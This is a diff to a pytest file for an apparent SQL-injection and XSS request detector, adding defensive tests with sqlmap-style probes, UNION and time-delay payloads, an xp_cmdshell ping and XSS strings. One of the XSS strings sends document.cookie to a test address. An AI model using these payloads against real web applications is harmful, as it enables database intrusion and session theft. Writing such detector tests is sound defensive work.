@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import html
 import json
+import sys
+import time
 from pathlib import Path
 from urllib.parse import quote, quote_plus
 
@@ -14,19 +16,24 @@ from hypothesis import strategies as st
 from threats import catalogue as C
 from workers.detect.decode import (
     MAX_DECODE_ROUNDS,
+    backslash_decode,
     expose_mysql_comments,
+    fold_width,
     html_decode,
     percent_decode,
     split_pairs,
     variants,
 )
 from workers.detect.injection import (
+    MAX_VALUES_PER_REQUEST,
     check_request,
     check_sql_query,
     json_values,
     sqli_value,
+    xml_values,
     xss_value,
 )
+from workers.detect.sqli import PROSE_WEIGHT, THRESHOLD, injected, prose, score
 
 CORPUS = Path(__file__).parent / "corpus"
 
@@ -240,7 +247,7 @@ def test_sql_protocol_benign_queries_pass(query: str) -> None:
 def test_plain_sqli_value_checks() -> None:
     assert sqli_value("O'Brien") is None
     hit = sqli_value("1' or '1'='1")
-    assert hit is not None and "fingerprint" in hit.detail and hit.excerpt == b"1' or '1'='1"
+    assert hit is not None and "libinjection fingerprint" in hit.detail and hit.excerpt == b"1' or '1'='1"
 
 
 # -- decoders ---------------------------------------------------------------------------------------------
@@ -322,3 +329,228 @@ def test_injection_in_logged_headers() -> None:
         "198.18.0.1, 10.0.0.1",
     ]
     assert check_request("/", header_values=user_agents) == []
+
+
+# -- scored SQL injection signals (workers/detect/sqli.py) -----------------------------------------------
+
+SCORED_SQLI = [
+    # (form body as sent, the signal that must be among those reported)
+    (b"q=%27+ORDER+BY+22--+", "clause after a quote"),
+    (b"q=%27+HAVING+1%3D1--+", "clause after a quote"),
+    (b"q=x%27+GROUP+BY+userid+HAVING+1%3D1--", "clause after a quote"),
+    (b"q=%22+AND+7300%3D7300+AND+%27pKlZ%27%3D%27pKlZ", "boolean equality of literals"),
+    (b"q=+or+%27a%27%3D%27a", "boolean equality of literals"),
+    (b"q=hi+or+a%3Da", "boolean equality of literals"),
+    (b"q=1+UNION+ALL+SELECT+%27INJ%27%7C%7C%27ECT%27%7C%7C%27XXX%27%2C2%2C3", "union select"),
+    (b"q=1+ORDER+BY+1%2CSLEEP%285%29%2CBENCHMARK%281000000%2CMD5%28%27A%27%29%29", "time delay"),
+    (b"q=%29%3Bwaitfor+delay+%270%3A0%3A5%27--", "time delay"),
+    (b"q=1+or+pg_sleep%285%29--", "time delay"),
+    (b"q=1%3BSELECT+%2A+FROM+users", "stacked statement"),
+    (b"q=%27%3B+exec+master..xp_cmdshell+%27ping+198.18.0.1%27--", "system object"),
+    (b"q=or+true--", "constant truth after OR"),
+    (b"q=admin%27+--+", "quote cut by a comment"),
+    (b"q=UNI%2F%2A%2A%2FON+SEL%2F%2A%2A%2FECT+1", "union select"),  # comments inside words
+    # sqlmap's first probes, and its payloads with `+` for spaces (tamper space2plus, sent as %2B)
+    (b"q=1%29%22%28%29%29%2C%28%27%28.", "quote-breaking probe"),
+    (b"q=1%27YrIbfV%3C%27%22%3E%29kLVkjr", "quote-breaking probe"),
+    (b"q=widget%22%29%2BORDER%2BBY%2B1--%2BpMtr", "clause after a quote"),
+    (b"q=widget%2BAND%2B6708%3D6708--%2BgWRY", "boolean equality of literals"),
+    (
+        b"q=widget%27%29%2BAND%2BCASE%2BWHEN%2B5579%3D5579%2BTHEN%2B5579%2BELSE%2B0%2BEND--%2BEXUY",
+        "shape probe",
+    ),
+    (b"q=x%27+--+abcd", "quote cut by a comment"),  # sqlmap ends a payload with a comment and 4 letters
+]
+
+
+@pytest.mark.parametrize(("body", "signal"), SCORED_SQLI)
+def test_scored_sqli_signals(body: bytes, signal: str) -> None:
+    hits = check_request("/search", body, "application/x-www-form-urlencoded")
+    assert [h.threat for h in hits] == [C.SQL_INJECTION]
+    value = percent_decode(body.decode().partition("=")[2], plus=True)
+    assert signal in score(value)[1]  # the full score; a verdict stops at the first sufficient signals
+
+
+def test_score_adds_weights_and_needs_the_threshold() -> None:
+    assert score("' ORDER BY 22-- ") == (
+        7,
+        ["clause after a quote", "shape probe", "breaks out of a literal", "ends in a comment"],
+    )
+    assert score("Order by date, newest first") == (0, [])
+    assert injected("O'Brien -- the best") is None  # a quote (1), the comment has words after it
+    assert injected("x' or") is None  # breakout and logic after a quote: 2
+    assert injected("x' or 1 --") is not None
+
+
+def test_prose_takes_weight_off_libinjection_only_verdicts() -> None:
+    sentence = "One quarter (24%) of people have had an affair and cheated on a partner at some point"
+    assert prose(sentence) and not prose("1 AND (SELECT (CASE WHEN (7300=7300) THEN 7300 ELSE 0 END))")
+    assert injected(sentence, "nf(1o") is None
+    assert injected(sentence + " ' union select password from users--", "nf(1o") is not None
+
+
+SQL_LOOKALIKES = [
+    b"q=Order+by+date%2C+newest+first",
+    b"q=it%27s+a+select+few+from+the+union",
+    b"q=%22exact+phrase%22+OR+alternative",
+    b"q=either+1+or+2",
+    b"q=5+%3C+6+and+7+%3E+3%3A+a+primer+on+inequalities",
+    b"q=Sleep+%285+hours%29+is+not+enough",
+    b"q=Why+%22SELECT+*%22+is+slow",
+    b"q=Tr0ub4dor%263%27%3B",
+    b"q=O%27Brien+--+the+best",
+    b"q=report+grouped+by+region+having+totals",
+    b"q=%22Hello%2C%22+she+said.+%27Hi.%27",
+    b"q=C%2B%2B+and+C%23",
+    b"q=O%27Brien+--+see+you",
+]
+
+
+@pytest.mark.parametrize("body", SQL_LOOKALIKES)
+def test_sql_lookalikes_are_not_injections(body: bytes) -> None:
+    assert check_request("/search", body, "application/x-www-form-urlencoded") == []
+
+
+def test_json_fragment_in_a_url_is_not_an_injection() -> None:
+    body = b'{"event":"page_view","url":"https://shop.example/p/1#{\\"COLOR\\":\\"#2A1100\\"}"}'
+    assert check_request("/collect", body, "application/json") == []
+    assert check_request('/shop/product/17#{"COLOR":"#2A1100","SIZE":"M"}') == []
+
+
+def test_semicolon_in_a_query_value_is_read_whole() -> None:
+    assert threats(check_request("/item?id=1;SELECT%20*%20FROM%20users")) == {"sql_injection"}
+    assert check_request("/item?id=1;page=2&sort=name") == []
+
+
+# -- XSS signals ------------------------------------------------------------------------------------------
+
+XSS_MARKUP = [
+    b"q=%3Cx+onpointerrawupdate%3Dalert%281%29%3E",  # an event handler libinjection does not list
+    b"q=%3Cx%2Fonxxx%3D1",
+    b"q=%3Cx+1%3D%271%27onxxx%3D1",
+    b"q=%3Cmarquee+loop%3D1+width%3D0+onfinish%3Dalert%281%29%3E",
+    b"q=%3CHTML%3E%3CBODY%3E",
+    b"q=%3CBR+SIZE%3D%22%26%7Balert%28%27XSS%27%29%7D%22%3E",  # Netscape script entity
+    b"q=%3CIMG+SRC%3D%22mocha%3A%5Bcode%5D%22%3E",
+    b"q=x%22%3BsetTimeout%28name%2C+1%29%2F%2F",
+    b"q=%3Bdocument.location%3D%27http%3A%2F%2F198.18.0.1%2F%27%2Bdocument.cookie",
+    b"q=%EF%BC%9Cscript%EF%BC%9Ealert%281%29%EF%BC%9C%2Fscript%EF%BC%9E",  # full-width brackets
+    b"q=%5Cu003cscript%5Cu003ealert%281%29%5Cu003c%2Fscript%5Cu003e",  # \\u escapes
+]
+
+
+@pytest.mark.parametrize("body", XSS_MARKUP)
+def test_xss_markup_and_script_signals(body: bytes) -> None:
+    assert "xss" in threats(check_request("/c", body, "application/x-www-form-urlencoded"))
+
+
+XSS_LOOKALIKES = [
+    b"q=document.cookie+explained",
+    b"q=I+%3C3+SQL+%26+HTML",
+    b"q=if+x+%3C+y+then+alert+the+team",
+    b"q=%3Cb%3Ebold%3C%2Fb%3E+and+%3Ci%3Eitalic%3C%2Fi%3E",
+    b"q=online+%3D+true",
+    b"q=call+confirm+%28yes%29",
+]
+
+
+@pytest.mark.parametrize("body", XSS_LOOKALIKES)
+def test_xss_lookalikes_are_not_xss(body: bytes) -> None:
+    assert check_request("/c", body, "application/x-www-form-urlencoded") == []
+
+
+def test_xml_body_values_are_checked() -> None:
+    attr = b'<?xml version="1.0"?><root><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"></a></root>'
+    text = b"<?xml version='1.0'?><q><id>1' UNION SELECT password FROM users--</id></q>"
+    assert threats(check_request("/post", attr, "application/xml")) == {"xss"}
+    assert threats(check_request("/post", text, "text/xml")) == {"sql_injection"}
+    assert check_request("/post", b"<order><name>O'Brien</name><qty>2</qty></order>", "application/xml") == []
+    assert list(xml_values(b"<a b='1'>t</a>" * 1000))[:3] == ["1", "t", "1"]
+    assert len(list(xml_values(b"<a>t</a>" * 10_000))) <= MAX_VALUES_PER_REQUEST
+
+
+def test_backslash_and_full_width_decoding() -> None:
+    assert backslash_decode("\\u0027 or \\x271\\x27=\\x271") == "' or '1'='1"
+    assert backslash_decode("\\ud800") == "\ufffd" and backslash_decode("\\u00zz") == "\\u00zz"
+    assert fold_width("\uff1cscript\uff1e") == "<script>" and fold_width("été") == "été"
+    assert variants("%5Cu0027%5Cx3C") == ["%5Cu0027%5Cx3C", "'<"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.text(alphabet=st.sampled_from("'\"`()=;,-#/*%<> \\ux27abcdeforsleptunion1SELECT\uff1c"), max_size=200),
+    st.booleans(),
+)
+def test_scored_checks_are_total_and_fast(text: str, plus: bool) -> None:
+    started = time.perf_counter()
+    total, names = score(text)
+    assert total >= 0 and len(names) == len(set(names))
+    assert (injected(text) is None) == (total < THRESHOLD or prose(text) and total + PROSE_WEIGHT < THRESHOLD)
+    for hit in check_request(
+        "/s?q=" + text, text.encode("utf-8", "surrogatepass"), "application/xml" if plus else ""
+    ):
+        assert hit.threat in (C.SQL_INJECTION, C.XSS)
+    assert time.perf_counter() - started < 1.0
+
+
+def test_scoring_is_bounded_on_long_values() -> None:
+    long = "' or " + "(" * 50_000 + "'a'='a" + " union" * 10_000
+    started = time.perf_counter()
+    score(long)
+    check_request("/s?q=" + quote_plus(long))
+    assert time.perf_counter() - started < 2.0
+
+
+# -- the evaluation script reads CRS tests and payload lists as it should ----------------------------------
+
+
+def _eval_module():  # scripts/ is not a package: load the script by its path
+    import importlib.util
+
+    path = Path(__file__).resolve().parents[2] / "scripts" / "eval_detect.py"
+    spec = importlib.util.spec_from_file_location("eval_detect", path)
+    assert spec is not None and spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    sys.modules[spec.name] = module  # its dataclasses look their module up
+    spec.loader.exec_module(module)
+    return module
+
+
+def test_eval_script_scores_crs_style_tests_and_lists(tmp_path: Path) -> None:
+    ev = _eval_module()
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "REQUEST-942-APPLICATION-ATTACK-SQLI.conf").write_text(
+        'SecRule ARGS "@detectSQLi" \\\n    "id:942100,\\\n    tag:\'paranoia-level/1\',\\\n'
+    )
+    tests = tmp_path / "tests/regression/tests/REQUEST-942-APPLICATION-ATTACK-SQLI"
+    tests.mkdir(parents=True)
+    stage = "stages:\n      - input:\n          method: POST\n          uri: /post\n          data: {data}\n"
+    (tests / "942100.yaml").write_text(
+        "rule_id: 942100\ntests:\n"
+        + "  - test_id: 1\n    "
+        + stage.format(data="\"var=1' or '1'='1\"")
+        + "        output:\n          log:\n            expect_ids: [942100]\n"
+        + "  - test_id: 2\n    "
+        + stage.format(data="var=Miles+O%27Brien")
+        + "        output:\n          log:\n            no_expect_ids: [942100]\n"
+    )
+    sec = tmp_path / "sec"
+    for name, text in (
+        (ev.SECLISTS_SQLI[0], "' ORDER BY 22-- \nupdate\n"),
+        (ev.SECLISTS_SQLI[1], "x' AND 1=1 AND 'a'='a\n"),
+        (ev.SECLISTS_XSS[0], "<x onxxx=1\n"),
+        (ev.SECLISTS_XSS[1], "plain words\n"),
+    ):
+        (sec / name).parent.mkdir(parents=True, exist_ok=True)
+        (sec / name).write_text(text)
+    cases = list(ev.crs_cases(ev.Source(tmp_path))) + list(ev.seclists_cases(ev.Source(sec)))
+    rows = ev.evaluate(iter(cases))
+    assert {k: (v["hit"], v["total"]) for k, v in rows.items()} == {
+        "crs sqli PL1-2": (1, 1),
+        "crs negative (benign)": (0, 1),
+        "seclists sqli": (2, 2),
+        "seclists sqli probes": (0, 1),
+        "seclists xss": (1, 2),
+    }
+    assert rows["seclists xss"]["misses"] == ["plain words"]
